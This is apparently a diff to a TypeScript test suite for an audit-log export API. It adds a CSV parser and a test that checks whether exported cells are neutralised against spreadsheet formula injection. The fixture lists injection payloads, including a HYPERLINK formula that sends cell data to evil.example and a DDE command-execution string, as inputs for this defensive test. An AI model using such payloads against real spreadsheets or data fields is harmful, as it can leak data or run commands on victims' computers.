@@ -21,9 +21,33 @@ beforeAll(async () => {
   p = { orgId: org.id, owner, admin, member, outsider: await newUser(app), otherAdmin, superadmin: await newSuperadmin(app) };
   // A metadata value that needs CSV quoting.
   await app.services.audit.record(app.container.db, { ...systemContext("csv"), userAgent: 'quoted, "with" commas\nand a line' }, AuditAction.userLogin, { organizationId: org.id });
+  // Callers' own text that a spreadsheet would run as a formula (OWASP CSV injection).
+  for (const userAgent of FORMULAS) await app.services.audit.record(app.container.db, { ...systemContext(`formula-${FORMULAS.indexOf(userAgent)}`), userAgent }, AuditAction.userLogin, { organizationId: org.id, metadata: { note: userAgent } });
   await app.services.auditChain.chainAll();
 });
 afterAll(() => app?.close());
+
+const FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\tstarts with a tab", "\rstarts with a return", "'=already quoted", "plain text"];
+
+/** RFC 4180: rows of cells (quoted cells may hold commas, quotes and line breaks). */
+function parseCsv(text: string): string[][] {
+  const rows: string[][] = [];
+  let row: string[] = [];
+  let cell = "";
+  let quoted = false;
+  for (let i = 0; i < text.length; i++) {
+    const c = text[i]!;
+    if (quoted) {
+      if (c === '"' && text[i + 1] === '"') (cell += '"'), i++;
+      else if (c === '"') quoted = false;
+      else cell += c;
+    } else if (c === '"') quoted = true;
+    else if (c === ",") row.push(cell), (cell = "");
+    else if (c === "\r" && text[i + 1] === "\n") row.push(cell), rows.push(row), (row = []), (cell = ""), i++;
+    else cell += c;
+  }
+  return rows;
+}
 
 const VERIFY = "/api/v1/admin/audit/verify";
 const GQL_VERIFY = "{ auditChainVerification { ok unchained organizationsChecked global { chain ok headSeq records } firstBreak { kind } } }";
@@ -91,6 +115,31 @@ describe("export", () => {
     expect(head).toMatch(/^head,global,\d+,,[0-9a-f]{64},/);
     expect(records[0]).toMatch(new RegExp(`^record,global,1,${GENESIS},[0-9a-f]{64},`));
     expect(res.text).toContain('""with"" commas');
+  });
+
+  it("neutralises cells a spreadsheet would run as formulas, and keeps them exact: strip one leading apostrophe", async () => {
+    const csv = await app.http.get(`/api/v1/organizations/${p.orgId}/audit/export?format=csv`, { token: p.admin.token });
+    const [header, ...rows] = parseCsv(csv.text);
+    const col = (name: string) => header!.indexOf(name);
+    const byRequest = new Map(rows.map((r) => [r[col("request_id")], r]));
+    const jsonl = jsonLines((await app.http.get(`/api/v1/organizations/${p.orgId}/audit/export?format=jsonl`, { token: p.admin.token })).text);
+    for (const [i, original] of FORMULAS.entries()) {
+      const row = byRequest.get(`formula-${i}`)!;
+      const agent = row[col("user_agent")]!;
+      if (original === "plain text") expect(agent).toBe(original);
+      else {
+        // Opens as text in a spreadsheet, and the value comes back by removing the apostrophe.
+        expect(agent, JSON.stringify(original)).toBe(`'${original}`);
+        expect(agent.slice(1)).toBe(original);
+      }
+      // Every cell of the CSV, not only user_agent: no cell starts a formula.
+      for (const cell of row) expect(cell, JSON.stringify(cell)).not.toMatch(/^[=+\-@\t\r]/);
+      // JSON lines keep the value as recorded, and both name the same link of the chain.
+      const line = jsonl.find((l) => l.request_id === `formula-${i}`)!;
+      expect(line.user_agent).toBe(original);
+      expect(row[col("hash")]).toBe(line.hash);
+    }
+    expect(checkExport(jsonl, p.orgId)).toBeGreaterThan(FORMULAS.length);
   });
 
   it("lets an organization's admins export their own organization's chain, and no one else's", async () => {
